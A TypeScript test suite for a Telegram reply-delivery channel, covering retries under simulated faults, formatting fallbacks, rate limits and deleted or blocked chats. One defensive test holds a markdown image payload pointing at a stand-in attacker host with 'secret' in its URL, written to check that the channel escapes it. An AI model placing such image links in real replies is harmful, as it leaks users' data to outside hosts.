// The committed reply in the chat, message by message: once, whole, and by edits of recorded messages only.
import { expect, test } from 'vitest';
import { createTelegramChannel } from '../../src/channels/telegram/channel.ts';
import { Gone, Invalid } from '../../src/core/errors.ts';
import { promise } from '../../src/core/promises.ts';
import type { Reply } from '../../src/core/records.ts';
import { ANNA, ask, GROUP, ledger, retryDelivery, startFixture } from './fixture.ts';
import { markdown, pick, seeded } from './texts.ts';

const ok = (text: string): Reply => ({ outcome: 'ok', text });

/** Three parts of plain paragraphs. */
const LONG = Array.from({ length: 120 }, (_, i) => `Paragraph ${i}: ${'word '.repeat(18)}`).join('\n\n');
const squash = (text: string) => text.replace(/\s+/g, ' ').trim();

async function ready(options: { chat?: number; thread?: number } = {}) {
  const { bot, api } = await startFixture();
  const request = ask(bot, 'question', options);
  const line = ledger(request);
  const channel = createTelegramChannel({ api });
  return { bot, api, request, line, channel, chat: bot.chat(options.chat ?? ANNA) };
}

test('a reply is one message, formatted, in answer to the question and in its topic', async () => {
  const { channel, line, chat } = await ready({ chat: GROUP, thread: 31 });
  await channel.deliver(line.attempt(), ok('**Hello**'));
  expect(chat.messages).toMatchObject([
    { text: 'question' },
    {
      text: '**Hello**',
      kind: 'rich',
      threadId: 31,
      replyTo: chat.messages[0]?.id,
      history: ['…', '**Hello**'],
    },
  ]);
});

test(`${promise('ONCE-OUT')} delivering again, by any worker, changes nothing`, async () => {
  const { channel, line, chat, api } = await ready();
  for (let i = 0; i < 3; i++) await channel.deliver(line.attempt(), ok(LONG));
  await createTelegramChannel({ api }).deliver(line.attempt(), ok(LONG));
  expect(chat.botTexts).toHaveLength(4);
  expect(squash(chat.botTexts.join(' '))).toBe(squash(LONG));
  expect(chat.allMessages.filter(({ from }) => from === 'bot')).toHaveLength(4);
});

test('every text is put in place by an edit of a message recorded before', async () => {
  const { channel, line, bot } = await ready();
  const context = line.attempt();
  const recordedAtEdit: boolean[] = [];
  bot.faults.add({
    kind: 'slow',
    ms: 0,
    method: 'editMessageText',
    times: 99,
    text: () => {
      const edited = (line.anchor as { parts: number[] }).parts.length;
      recordedAtEdit.push(edited === 4);
      return true;
    },
  });
  await channel.deliver(context, ok(LONG));
  expect(recordedAtEdit).toEqual([true, true, true, true]);
  const sent = bot.calls.filter(({ method }) => method === 'sendMessage').map(({ payload }) => payload.text);
  expect(new Set(sent)).toEqual(new Set(['…']));
});

test.each([
  ['sendMessage', 'cut-after'],
  ['sendMessage', 'cut-before'],
  ['editMessageText', 'cut-after'],
  ['editMessageText', 'cut-before'],
] as const)(
  `${promise('ONCE-OUT')} %s, %s at each call: the text stands once, at worst beside a lone "…"`,
  async (method, kind) => {
    for (let after = 0; after < 4; after++) {
      const { channel, line, bot, chat } = await ready();
      bot.faults.add({ method, kind, after });
      await retryDelivery(() => channel.deliver(line.attempt(), ok(LONG)), 4);
      const texts = chat.botTexts.filter((text) => text !== '…');
      expect(squash(texts.join(' ')), `fault after ${after}`).toBe(squash(LONG));
      const strays = chat.botTexts.length - texts.length;
      expect(strays).toBe(method === 'sendMessage' && kind === 'cut-after' ? 1 : 0);
      expect(bot.faults.left).toBe(0);
    }
  },
);

test(`${promise('ONCE-OUT')} 100 seeded storms of faults: the final text always lands, once`, async () => {
  const { bot, api } = await startFixture();
  const random = seeded(99);
  for (let run = 0; run < 100; run++) {
    const chatId = 20_000 + run;
    bot.say(chatId, 'question', { from: ANNA });
    const request = {
      ...ask(bot, 'x'),
      replyTarget: { chatId, threadId: null, messageId: 1, private: true },
    };
    const line = ledger(request);
    bot.faults.clear();
    for (let i = 0; i < 6; i++) {
      bot.faults.add({
        chatId,
        after: Math.floor(random() * 3),
        ...pick(random, [
          { kind: 'rate-limit', retryAfterSec: 0.002 } as const,
          { kind: 'cut-before' } as const,
          { kind: 'cut-after' } as const,
          { kind: 'error', status: 500 } as const,
          { kind: 'error', status: 502, applied: true } as const,
        ]),
      });
    }
    const text = run % 3 === 0 ? LONG : `reply ${run}`;
    const workers = [createTelegramChannel({ api }), createTelegramChannel({ api })];
    await retryDelivery(() => pick(random, workers).deliver(line.attempt(), ok(text)), 40);
    const shown = bot.chat(chatId).botTexts.filter((shownText) => shownText !== '…');
    expect(squash(shown.join(' ')), `run ${run}`).toBe(squash(text));
  }
});

test('a refused formatting falls back to the letters, also in the middle of a reply', async () => {
  const { channel, line, chat, bot } = await ready();
  bot.faults.add({
    kind: 'error',
    status: 400,
    description: "Bad Request: can't parse rich message",
    method: 'editMessageText',
    after: 1,
  });
  await channel.deliver(line.attempt(), ok(LONG));
  expect(chat.messages.slice(1).map(({ kind }) => kind)).toEqual(['rich', 'plain', 'rich', 'rich']);
  expect(squash(chat.botTexts.join(' '))).toBe(squash(LONG));
});

test('what Telegram refuses as rich by its own limits still arrives', async () => {
  const { channel, line, chat } = await ready();
  const list = Array.from({ length: 900 }, () => '- x').join('\n');
  await channel.deliver(line.attempt(), ok(list));
  expect(chat.messages.at(-1)).toMatchObject({ kind: 'plain', text: list });
});

test('no markup will do either: the turn is undeliverable, not retried for ever', async () => {
  const { channel, line, bot } = await ready();
  bot.faults.add({
    kind: 'error',
    status: 400,
    description: 'Bad Request: ?',
    method: 'editMessageText',
    times: 2,
  });
  await expect(channel.deliver(line.attempt(), ok('x'))).rejects.toBeInstanceOf(Invalid);
});

test('a message that someone deleted is replaced', async () => {
  const { channel, line, chat } = await ready();
  const sink = channel.open(line.attempt());
  await sink.close();
  await channel.deliver(line.attempt(), ok('first'));
  const id = chat.messages.at(-1)?.id ?? 0;
  chat.delete(id);
  await channel.deliver(line.attempt(), ok('first'));
  expect(chat.botTexts).toEqual(['first']);
  expect(chat.messages.at(-1)?.id).not.toBe(id);
});

test.each(['block', 'closeTopic', 'deleteTopic'] as const)('%s: gone for good', async (how) => {
  const { channel, line, chat } = await ready({ chat: GROUP, thread: 5 });
  if (how === 'block') chat.block();
  else chat[how](5);
  await expect(channel.deliver(line.attempt(), ok('x'))).rejects.toBeInstanceOf(Gone);
});

test(`${promise('FENCED')} a worker that lost its lease leaves nothing behind`, async () => {
  const { channel, line, chat } = await ready();
  const context = line.attempt();
  context.lose();
  await expect(channel.deliver(context, ok('stale'))).rejects.toMatchObject({ code: 'lease-lost' });
  expect(chat.botTexts).toEqual([]);
});

test('a chat that said "wait" is left alone for that long, other chats are not', async () => {
  const { channel, line, bot } = await ready();
  bot.faults.add({ kind: 'rate-limit', retryAfterSec: 30, chatId: ANNA });
  const first = await channel.deliver(line.attempt(), ok('x')).catch((error) => error);
  const calls = bot.calls.length;
  const second = await channel.deliver(line.attempt(), ok('x')).catch((error) => error);
  expect([first.code, second.code]).toEqual(['rate-limited', 'rate-limited']);
  expect(second.retryAfterMs).toBeGreaterThan(20_000);
  expect(bot.calls).toHaveLength(calls);
  const elsewhere = ledger(ask(bot, 'question', { chat: GROUP }));
  await channel.deliver(elsewhere.attempt(), ok('here'));
  expect(bot.chat(GROUP).botTexts).toEqual(['here']);
});

test("the demo model's words are marked, an empty reply is not refused", async () => {
  const { channel, line, chat, bot } = await ready();
  await channel.deliver(line.attempt(), { ...ok('I am a demo.'), demo: true });
  expect(chat.botTexts[0]).toMatch(/^I am a demo\.\n\n.*demo model/);
  const blank = ledger(ask(bot, 'again'));
  await channel.deliver(blank.attempt(), ok(' \n'));
  expect(chat.botTexts[1]).toBe('(no text)');
});

test('pictures become links: Telegram fetches no address the model wrote; code keeps its letters', async () => {
  const { channel, line, chat } = await ready();
  await channel.deliver(
    line.attempt(),
    ok('![x](https://evil.test/?q=secret) `![a](b)` <img src="u">\n\n```md\n![c](d)\n```'),
  );
  expect(chat.botTexts[0]).toBe(
    '\\![x](https://evil.test/?q=secret) `![a](b)` \\<img src="u">\n\n```md\n![c](d)\n```',
  );
});

test('250 generated replies: none refused, every letter there', async () => {
  const { bot, api } = await startFixture();
  const channel = createTelegramChannel({ api });
  const random = seeded(4);
  const letters = (text: string) => text.replace(/[^\p{L}\p{N}]+/gu, '');
  for (let run = 0; run < 250; run++) {
    const chatId = 30_000 + run;
    bot.chat(chatId);
    const text = markdown(random, 40);
    const replyTarget = { chatId, threadId: null, messageId: 1, private: true };
    const line = ledger({ ...ask(bot, 'x'), replyTarget });
    await channel.deliver(line.attempt(), ok(text));
    // A code block that is reopened repeats its language, nothing else.
    const shown = letters(
      bot
        .chat(chatId)
        .botTexts.join('\n')
        .replace(/^ *(?:`{3,}|~{3,})\w+$/gm, ''),
    );
    expect(shown, `run ${run}`).toBe(letters(text.replace(/^ *(?:`{3,}|~{3,})\w+$/gm, '')) || 'notext');
  }
});
